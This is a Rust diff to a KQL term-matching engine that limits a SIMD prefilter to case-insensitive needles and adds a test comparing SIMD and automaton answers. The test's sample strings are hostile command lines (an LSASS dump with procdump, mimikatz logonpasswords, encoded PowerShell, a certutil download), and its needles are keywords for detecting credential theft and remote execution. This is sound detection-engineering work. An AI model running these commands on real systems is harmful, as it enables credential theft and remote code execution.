@@ -238,8 +238,8 @@ pub struct TermFinder {
     /// character (then that end needs a term boundary).
     needles: Vec<(usize, bool, bool)>,
     term: Term,
-    /// Whether a value holds some needle at all, found with SIMD before the automaton looks for terms:
-    /// most values hold none (see [`Presence`]).
+    /// Whether a value holds some needle at all, found with SIMD before a case-insensitive automaton
+    /// looks for terms: most values hold none (see [`Presence`]).
     presence: Option<Presence>,
 }
 
@@ -275,7 +275,10 @@ impl TermFinder {
                 })
                 .collect(),
             term,
-            presence: Presence::new(needles, !case_sensitive),
+            // Case-sensitive needles have aho-corasick's own SIMD prefilter.
+            presence: (!case_sensitive)
+                .then(|| Presence::new(needles, true))
+                .flatten(),
         }
     }
 
@@ -417,6 +420,86 @@ pub fn kql_has_any() -> ScalarUDF {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn the_simd_pre_tests_change_no_answer() {
+        let values = [
+            "",
+            "lsass",
+            "procdump64.exe -ma LSASS.exe C:\\t\\l.dmp",
+            "powershell -ENC SQBFAFgA; Invoke-Command -ComputerName FS01",
+            "xlsassx mimikatzz sekurlsa::logonpasswords",
+            "CERTUTIL -urlcache -f hTTp://x/y.exe",
+            "été ÉTÉ lsass",
+        ];
+        let sets: [&[&str]; 4] = [
+            &["lsass"],
+            &[
+                "procdump",
+                "procdump64",
+                "mimikatz",
+                "sekurlsa",
+                "lsadump",
+                "MiniDump",
+            ],
+            &["Invoke-Command", "Enter-PSSession", "-ComputerName"],
+            &["http", "://", "ÉTÉ"],
+        ];
+        for needles in sets {
+            for term in [Term::Whole, Term::Prefix, Term::Suffix] {
+                let with = TermFinder::any(needles, false, term);
+                assert!(with.presence.is_some() || cfg!(not(target_arch = "x86_64")));
+                let without = TermFinder {
+                    presence: None,
+                    ..TermFinder::any(needles, false, term)
+                };
+                for value in values {
+                    assert_eq!(
+                        with.matches(value),
+                        without.matches(value),
+                        "{value:?} against {needles:?} ({term:?})"
+                    );
+                }
+            }
+            // `lower_contains`: the SIMD answer against the automaton's.
+            let lowered: Vec<String> = needles.iter().map(|n| n.to_lowercase()).collect();
+            let lowered: Vec<&str> = lowered.iter().map(String::as_str).collect();
+            let simd = LowerMatcher::new(LowerTest::Contains, &lowered);
+            assert!(
+                matches!(simd.finder.as_deref(), Some(ContainsFinder::Simd(_)))
+                    || cfg!(not(target_arch = "x86_64"))
+            );
+            let automaton = LowerMatcher {
+                finder: Some(Arc::new(ContainsFinder::Automaton(
+                    AhoCorasickBuilder::new()
+                        .ascii_case_insensitive(true)
+                        .match_kind(MatchKind::LeftmostFirst)
+                        .build(&lowered)
+                        .unwrap(),
+                ))),
+                ..LowerMatcher::new(LowerTest::Contains, &lowered)
+            };
+            for value in values {
+                assert_eq!(
+                    simd.matches(value, false),
+                    automaton.matches(value, false),
+                    "{value:?} contains any of {lowered:?}"
+                );
+            }
+        }
+        // Short needles keep the automaton alone.
+        assert!(
+            TermFinder::any(&["-e", "-enc"], false, Term::Whole)
+                .presence
+                .is_none()
+        );
+        assert!(matches!(
+            LowerMatcher::new(LowerTest::Contains, &["-e"])
+                .finder
+                .as_deref(),
+            Some(ContainsFinder::Automaton(_))
+        ));
+    }
 
     #[test]
     fn every_occurrence_of_a_needle_is_a_candidate_term() {
